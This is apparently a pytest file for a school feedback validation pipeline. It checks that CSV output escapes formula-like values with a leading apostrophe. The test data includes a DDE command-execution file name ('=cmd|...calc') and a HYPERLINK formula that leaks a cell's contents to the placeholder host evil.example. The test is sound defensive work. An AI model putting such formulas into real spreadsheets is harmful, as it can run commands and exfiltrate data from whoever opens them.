"""CSV injection in the schools' feedback files: a file name or a bad value that Excel would run as
a formula is written as text (leading `'`), while line numbers stay numbers."""

from __future__ import annotations

import csv

from validate_fixtures import SCHOOL_A, register_files, stage

from pipelines.validate.stage import run_validate

FILE = "=cmd|' /C calc'!A0.csv"
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Klikšķiniet")'


def test_feedback_writes_formula_text_as_text(con, settings, runner) -> None:
    stage(con, "schools", "skolas.csv", [{"school_id": SCHOOL_A}])
    stage(con, "pupils", "skolēni.csv", [{"pupil_id": "p2"}])
    stage(con, "plans", "plāni.csv", [{}])
    stage(
        con,
        "consultations",
        FILE,
        [
            {"mode": None, "mode_raw": HYPERLINK},
            {"mode": None, "mode_raw": "@SUM(1+1)"},
            {"mode": None, "mode_raw": "+1"},
            {"mode": None, "mode_raw": "\tTab"},
            {"mode": None, "mode_raw": "\rCR"},
            {"minutes": -5.0},
        ],
    )
    register_files(con)
    run_validate(con, settings, "run-1", runner=runner)

    with (settings.feedback_dir / f"{SCHOOL_A}.csv").open(encoding="utf-8-sig", newline="") as handle:
        rows = [r[:6] for r in csv.reader(handle, delimiter=";")]
    quoted = "'" + FILE
    assert rows == [
        ["file", "line", "column", "value", "severity", "reason_code"],
        [quoted, "2", "mode", "'" + HYPERLINK, "error", "mode_not_allowed"],
        [quoted, "3", "mode", "'@SUM(1+1)", "error", "mode_not_allowed"],
        [quoted, "4", "mode", "'+1", "error", "mode_not_allowed"],
        [quoted, "5", "mode", "'\tTab", "error", "mode_not_allowed"],
        [quoted, "6", "mode", "'\rCR", "error", "mode_not_allowed"],
        [quoted, "7", "minutes", "'-5", "error", "minutes_out_of_range"],
    ]
